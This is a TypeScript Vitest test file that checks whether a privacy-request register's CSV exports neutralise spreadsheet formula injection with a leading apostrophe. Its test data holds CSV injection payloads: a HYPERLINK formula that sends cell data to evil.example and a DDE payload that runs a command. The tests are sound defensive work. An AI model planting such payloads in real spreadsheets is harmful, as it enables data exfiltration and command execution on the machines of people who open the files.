import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditCsv, type ExportInput, requestsCsv } from '../../../src/core/requests/export.js';
import { Register, type Requester } from '../../../src/core/requests/register.js';
import { run } from '../../../src/main.js';
import { openRegisterStore } from '../../../src/store/register-store.js';

/**
 * Exports as spreadsheets read them. A cell a person typed that begins with =, +, -, @, tab or
 * carriage return is a formula to Excel, LibreOffice and Google Sheets (CSV injection); every CSV
 * the project writes neutralises it with a leading apostrophe, as the OWASP rule says.
 */

/** RFC 4180 fields, enough for csv-stringify's output. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const FORMULA = /^[=+\-@\t\r]/;
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

let dir: string;
let input: ExportInput;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'privacy-ops-export-'));
  const store = await openRegisterStore(`sqlite://${join(dir, 'register.sqlite')}`);
  const register = await Register.open(store, { defaultCountry: 'DE', timeZone: 'UTC', retentionMonths: 24 });
  const now = new Date('2026-03-10T10:00:00Z');
  const requesters = new Map<string, Requester>();
  for (const [i, evil] of HOSTILE.entries()) {
    const state = await register.add(
      {
        type: 'access',
        regime: 'gdpr',
        received: '2026-03-02',
        requesterName: evil,
        requesterEmail: `r${i}@example.com`,
        owner: evil.trim() || 'x',
        channel: 'email',
      },
      { actor: evil, now },
    );
    // As stored: the register keeps the typed name (less line breaks).
    const { requester } = await register.show(state.id);
    requesters.set(state.id, requester!);
  }
  const requests = await register.list({ status: ['all'] }, now);
  const events = (await Promise.all(requests.map(async (r) => (await register.show(r.id)).trail))).flat();
  input = { requests, events, requesters, exportedAt: now.toISOString() };
  await register.close();
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('CSV exports and formula injection', () => {
  it.each([
    ['requests', () => requestsCsv(input)],
    ['audit trail', () => auditCsv(input)],
  ])('no cell of the %s CSV begins with =, +, -, @, tab or CR', (_, csv) => {
    const rows = parseCsv(csv());
    expect(rows.length).toBeGreaterThan(HOSTILE.length);
    const risky = rows.flat().filter((cell) => FORMULA.test(cell));
    expect(risky).toEqual([]);
  });

  it('keeps what was typed, behind one apostrophe', () => {
    const rows = parseCsv(requestsCsv(input));
    const header = rows[0]!;
    const names = rows.slice(1).map((r) => r[header.indexOf('requester_name')]);
    expect(names).toEqual([...input.requesters!.values()].map((r) => `'${r!.name}`));
    expect(names[0]).toBe(`'${HOSTILE[0]}`);
    // Ordinary cells are untouched.
    expect(rows[1]![header.indexOf('type')]).toBe('access');
    expect(rows[1]![header.indexOf('received')]).toBe('2026-03-02');
  });

  it('neutralises the CSV that `requests export` writes', async () => {
    let stdout = '';
    const code = await run(['requests', 'export', '--format', 'csv', '--with-personal-data'], {
      env: { PRIVACY_OPS_STORE: `sqlite://${join(dir, 'register.sqlite')}`, DEFAULT_TIMEZONE: 'UTC' },
      out: (t) => {
        stdout += t;
      },
      err: () => {},
    });
    expect(code).toBe(0);
    const cells = parseCsv(stdout).flat();
    expect(cells).toContain(`'${HOSTILE[0]}`);
    expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
  });
});
